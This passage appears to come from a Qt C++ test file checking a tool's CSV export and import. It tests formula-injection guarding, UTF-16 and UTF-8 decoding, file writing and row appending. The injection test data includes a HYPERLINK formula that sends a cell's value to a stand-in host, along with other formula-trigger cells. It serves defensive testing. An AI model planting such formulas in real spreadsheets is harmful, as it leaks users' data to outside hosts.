    // and comes back from the import without it; numbers and the "-" of no result stay bare.
    void formulaCells_data() {
        QTest::addColumn<QByteArray>("cell");
        QTest::addColumn<bool>("guarded");
        QTest::newRow("equals") << QByteArray("=1+2") << true;
        QTest::newRow("hyperlink")
            << QByteArray("=HYPERLINK(\"http://x.example/?x=\"&C3,\"go\")") << true;
        QTest::newRow("plus") << QByteArray("+1") << true;
        QTest::newRow("at") << QByteArray("@SUM(A1)") << true;
        QTest::newRow("tab") << QByteArray("\t=1") << true;
        QTest::newRow("carriage return") << QByteArray("\r=1") << true;
        QTest::newRow("minus word") << QByteArray("-cmd") << true;
        QTest::newRow("minus blank") << QByteArray("- 1") << true;
        QTest::newRow("negative number") << QByteArray("-12") << false;
        QTest::newRow("not ranked") << QByteArray("-") << false;
        QTest::newRow("inside") << QByteArray("a=b+c") << false;
        QTest::newRow("rank text") << QByteArray("Rank 3 / Page 1") << false;
        // An apostrophe of the list's own is kept through export and import.
        QTest::newRow("apostrophe then formula") << QByteArray("'=1") << true;
        QTest::newRow("apostrophe then text") << QByteArray("'quoted") << false;
    }
    void formulaCells() {
        QFETCH(QByteArray, cell);
        QFETCH(bool, guarded);
        const std::string value = cell.toStdString();
        std::vector<EntryRow> rows = listOf({"a.com|k"});
        rows[0].cells[EngineColumn(Google)] = value;
        rows[0].cells[ColKeywords] = value;
        const QByteArray csv = tw::exchange::exportCsv(rows, kLabels);
        CsvReader reader(view(csv));
        CsvRecord record;
        QVERIFY(reader.next(record) && reader.next(record));
        const std::string written = guarded ? "'" + value : value;
        QCOMPARE(record.fields[2], written);
        QCOMPARE(record.fields[3], written);

        ImportResult again;
        QVERIFY(tw::exchange::importCsv(csv, rows, again));
        QCOMPARE(again.added, 0);
        QCOMPARE(again.skipped, 0);
        ImportResult fresh;
        QVERIFY(tw::exchange::importCsv(csv, {}, fresh));
        QCOMPARE(fresh.added, 1);
        QCOMPARE(fresh.rows[0].cells[ColKeywords], std::string(trimBlanks(value)));
    }

    // Another program's guarded cells (a spreadsheet saving text that starts with "=") lose
    // their apostrophe; an apostrophe before ordinary text stays.
    void importTakesGuardOff() {
        ImportResult result;
        QVERIFY(tw::exchange::importCsv("url,keywords\n'@a.com,'=1+2\nb.com,'blue\n", {}, result));
        QCOMPARE(entriesOf(result.rows), (QList<QByteArray>{"@a.com|=1+2", "b.com|'blue"}));
    }

    // A UTF-16 file with its byte order mark reads as the same text in UTF-8; other text that
    // holds NUL bytes is no text file.
    void importEncodings_data() {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<bool>("read");
        const QString text = QStringLiteral("url,keywords\r\na.com,caf\u00e9 \U0001F600\r\n");
        QByteArray le("\xFF\xFE", 2);
        QByteArray be("\xFE\xFF", 2);
        for (const QChar c : text) {
            const char lo = char(c.unicode() & 0xff);
            const char hi = char(c.unicode() >> 8);
            le.append(lo).append(hi);
            be.append(hi).append(lo);
        }
        QTest::newRow("UTF-16 LE") << le << true;
        QTest::newRow("UTF-16 BE") << be << true;
        QTest::newRow("UTF-8 with mark") << "\xEF\xBB\xBF" + text.toUtf8() << true;
        QTest::newRow("UTF-16 LE without mark") << le.mid(2) << false;
        QTest::newRow("NUL in UTF-8") << QByteArray("url,keywords\na.com,k\0x\n", 23) << false;
        QTest::newRow("NUL in UTF-16") << le + QByteArray("\0\0", 2) << false;
        QTest::newRow("odd UTF-16") << le + QByteArray("a", 1) << false;
    }
    void importEncodings() {
        QFETCH(QByteArray, bytes);
        QFETCH(bool, read);
        tw::test::ScopedWorkDir dir;
        const QString path = dir.file(QStringLiteral("list.csv"));
        writeFile(path, bytes);
        ImportResult result;
        QString error;
        QCOMPARE(tw::exchange::importFile(path, std::string(), {}, result, &error), read);
        if (read) {
            QCOMPARE(entriesOf(result.rows),
                     QList<QByteArray>{"a.com|caf\xC3\xA9 \xF0\x9F\x98\x80"});
        } else {
            QVERIFY2(error.contains(QStringLiteral("not a text file")), qPrintable(error));
            QVERIFY2(error.contains(QStringLiteral("list.csv")), qPrintable(error));
            QVERIFY(result.rows.empty());
        }
    }

    void writeCsv() {
        tw::test::ScopedWorkDir dir;
        const QString path = dir.file(QStringLiteral("out.csv"));
        writeFile(path, "old contents");
        QString error;
        QVERIFY(tw::exchange::writeCsv(path, "row,url\r\n", &error));
        QCOMPARE(readFile(path), QByteArray("row,url\r\n"));
        QVERIFY(!tw::exchange::writeCsv(dir.file(QStringLiteral("no/such/folder/out.csv")), "x",
                                        &error));
        QVERIFY2(error.contains(QStringLiteral("out.csv")), qPrintable(error));
    }

    void appendToModel() {
        EntryListModel model;
        model.appendEntry("old.com", "k");
        QSignalSpy inserted(&model, &QAbstractItemModel::rowsInserted);
        ImportResult result;
        QVERIFY(tw::exchange::importCsv("a.com,k\nb.com,k\n", model.rows(), result));
        QCOMPARE(model.appendEntries(std::move(result.rows)), 1);
        QCOMPARE(inserted.count(), 1);
        QCOMPARE(inserted.first().at(1).toInt(), 1);
        QCOMPARE(inserted.first().at(2).toInt(), 2);
        QCOMPARE(model.rowCount(), 3);
        QCOMPARE(model.cell(2, ColNumber), std::string("3"));
        QCOMPARE(model.cell(2, ColUrl), std::string("b.com"));
        QCOMPARE(model.cell(2, EngineColumn(Google)), std::string("-"));
        QCOMPARE(model.appendEntries({}), 3);
        QCOMPARE(inserted.count(), 1);

        std::vector<EntryRow> list = listOf({"old.com|k"});
        QVERIFY(tw::exchange::importCsv("a.com,k\n", list, result));
        appendRows(list, std::move(result.rows));
        QCOMPARE(list.size(), size_t(2));
        QCOMPARE(list[1].cells[ColNumber], std::string("2"));
    }
};

TW_TEST_MAIN_CORE(TestExchange)
#include "test_exchange.moc"
